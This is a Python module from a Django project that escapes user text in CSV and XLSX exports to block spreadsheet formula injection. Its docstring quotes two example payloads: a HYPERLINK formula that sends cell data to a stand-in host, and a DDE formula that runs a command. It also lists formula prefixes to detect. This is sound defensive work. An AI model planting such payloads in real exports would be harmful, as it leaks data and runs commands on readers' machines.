"""Writing CSV and XLSX files that a spreadsheet opens as data, never as formulas.

Text in our exports comes from users (a lurah's invoice number, an imported Musrenbang title):
``=HYPERLINK("http://evil.example/?"&A1,"Klik")`` or ``=cmd|' /C calc'!A0`` must reach the
reader's spreadsheet as text. Following OWASP's CSV-injection guidance, a text cell that starts
with ``= + - @``, a tab or a carriage return gets a leading single quote; CSV text fields are
always quoted (so a separator inside a value cannot start a new cell) and XLSX text cells are
written as strings (data type ``s``). Numbers (int, Decimal, float) stay numbers: numeric cells
in XLSX, unquoted in CSV.

django-import-export's own ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`` (4.4) is not used: it
only strips a leading ``=`` (a ``+``, ``-``, ``@``, tab or CR passes), it turns every cell into
text, numbers included, and it changes what the value says. The admin exports use ``SafeCSV``
and ``SafeXLSX`` below instead, fed by ``SafeModelResource``.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal

import tablib
from django.utils import timezone
from import_export import resources
from import_export.formats import base_formats

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
SHEET_TITLE_FORBIDDEN = re.compile(r"[\\*?:/\[\]]")
MAX_COLUMN_WIDTH = 60


def is_number(value) -> bool:
    """An int, Decimal or float, not a bool: written as a number, never escaped."""
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def safe_cell(value):
    """The value as it may go into a spreadsheet cell.

    Numbers, booleans, dates and None are returned unchanged; anything else becomes text, with
    a single quote in front when it starts like a formula. Escaping twice changes nothing.
    """
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    if isinstance(value, datetime.date | datetime.time):
        return value
    text = value if isinstance(value, str) else str(value)  # lazy translations too
    if text.startswith(FORMULA_PREFIXES):
        return ESCAPE + text
    return text


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]


def _sheets(data) -> list[tuple[str, list, list[Sequence]]]:
    """(title, headers, rows) of each sheet: a tablib Dataset, a Databook or a list of them."""
    if isinstance(data, tablib.Dataset):
        return [(data.title or "", list(data.headers or []), list(data))]
    if isinstance(data, tablib.Databook):
        data = data.sheets()
    return [sheet for item in data for sheet in _sheets(item)]


def csv_text(dataset: tablib.Dataset, *, delimiter: str = ",") -> str:
    """CSV of a tablib Dataset: text quoted and escaped, numbers bare."""
    [(_, headers, rows)] = _sheets(dataset)
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, quoting=csv.QUOTE_NONNUMERIC)
    if headers:
        writer.writerow(safe_row(headers))
    for row in rows:
        writer.writerow(safe_row(row))  # None is written as an empty field
    return buffer.getvalue()


def _xlsx_value(value):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = safe_cell(value)
    if isinstance(value, str):
        # Control characters cannot be stored in XLSX (openpyxl raises); show them as '�'.
        return ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", value)
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        return timezone.make_naive(value)  # Excel has no time zones: local (Jambi) time
    if isinstance(value, datetime.time) and value.tzinfo is not None:
        return value.replace(tzinfo=None)
    return value


def _sheet_title(title: str, number: int) -> str:
    title = SHEET_TITLE_FORBIDDEN.sub("-", title or "")[:31]
    return title or f"Sheet{number}"


def xlsx_bytes(data) -> bytes:
    """An XLSX workbook, one sheet per tablib Dataset (a Dataset, a Databook or a list).

    Text cells are strings (data type 's', escaped like CSV); numbers are numeric cells; the
    header row is bold and frozen.
    """
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    book = Workbook()
    book.remove(book.active)
    bold, wrap = Font(bold=True), Alignment(wrap_text=True, vertical="top")
    for number, (title, headers, rows) in enumerate(_sheets(data), start=1):
        sheet = book.create_sheet(_sheet_title(title, number))
        widths: dict[int, int] = {}
        table = ([headers] if headers else []) + [list(r) for r in rows]
        for r, values in enumerate(table, start=1):
            for c, raw in enumerate(values, start=1):
                value = _xlsx_value(raw)
                if value is None or value == "":
                    continue
                cell = sheet.cell(row=r, column=c)
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"  # never 'f', whatever the text says
                    if "\n" in value:
                        cell.alignment = wrap
                if r == 1 and headers:
                    cell.font = bold
                longest = max(len(line) for line in str(value).splitlines() or [""])
                widths[c] = max(widths.get(c, 0), longest)
        if headers:
            sheet.freeze_panes = "A2"
        for c, width in widths.items():
            sheet.column_dimensions[get_column_letter(c)].width = min(width + 2, MAX_COLUMN_WIDTH)
    if not book.worksheets:
        book.create_sheet("Sheet1")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --- django-import-export ---------------------------------------------------------------------


class SafeCSV(base_formats.CSV):
    """The admin's CSV export, written by csv_text."""

    def export_data(self, dataset, **kwargs):
        return csv_text(dataset)


class SafeXLSX(base_formats.XLSX):
    """The admin's XLSX export, written by xlsx_bytes (openpyxl directly, not tablib)."""

    def export_data(self, dataset, **kwargs):
        return xlsx_bytes(dataset)


#: The only export formats an admin offers.
EXPORT_FORMATS = [SafeCSV, SafeXLSX]


class SafeModelResource(resources.ModelResource):
    """The base of every import-export resource: exported text is escaped, numbers stay numbers.

    A field that reads a number from the model exports that number (import-export would render
    it as text for CSV, and for XLSX too unless its widget is numeric); any other value is passed
    through safe_cell, so a Dataset built here is safe whichever writer gets it.
    """

    def _dehydrated(self, field) -> bool:
        method = field.get_dehydrate_method(self.get_field_name(field))
        return callable(method) or getattr(self, method, None) is not None

    def export_field(self, field, instance, **kwargs):
        if field.attribute and not self._dehydrated(field):
            raw = field.get_value(instance)
            if is_number(raw):
                return raw
        return safe_cell(super().export_field(field, instance, **kwargs))
